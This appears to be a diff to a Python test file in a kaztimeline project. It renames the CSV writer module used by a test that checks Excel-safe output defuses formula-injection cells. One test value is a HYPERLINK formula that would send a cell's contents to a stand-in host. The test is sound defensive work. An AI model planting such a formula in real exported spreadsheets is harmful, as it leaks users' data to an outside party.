@@ -16,7 +16,7 @@ from pathlib import Path
 
 import pytest
 
-from kaztimeline.render import machine
+from kaztimeline.render import delimited
 from kaztimeline.schema.model import EVENT_COLUMNS, LIST_COLUMNS, OPTIONAL_EVENT_COLUMNS, split_list
 from kaztimeline.values.dates import record_date
 
@@ -203,7 +203,7 @@ FORMULA_CELLS = ('=HYPERLINK("http://example.invalid/?x="&A1,"click")', "-1", "+
 
 def test_excel_safe_defuses_every_formula_trigger():
     out = io.StringIO()
-    machine.write_csv(["a"], [[v] for v in FORMULA_CELLS + ("plain", "7-1")], out, excel=True)
+    delimited.write_csv(["a"], [[v] for v in FORMULA_CELLS + ("plain", "7-1")], out, excel=True)
     values = [r[0] for r in csv.reader(io.StringIO(out.getvalue()))][1:]
     assert values == ["'" + v for v in FORMULA_CELLS] + ["plain", "7-1"]
 
